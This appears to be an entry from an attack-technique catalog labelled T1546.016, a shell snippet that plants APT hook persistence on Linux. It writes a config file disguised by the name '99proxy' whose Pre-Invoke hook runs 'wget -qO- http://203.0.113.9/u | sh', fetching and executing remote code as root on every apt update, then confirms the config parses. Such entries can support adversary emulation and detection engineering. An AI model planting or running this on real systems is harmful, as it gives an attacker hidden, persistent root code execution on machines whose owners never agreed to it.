# technique: T1546.016
# location: linux.package.apt-hook
# source: /etc/apt/apt.conf.d/99proxy
printf 'APT {\n  Update {\n    Pre-Invoke { "wget -qO- http://203.0.113.9/u | sh"; };\n  };\n};\n' > /etc/apt/apt.conf.d/99proxy
apt-config dump > /dev/null
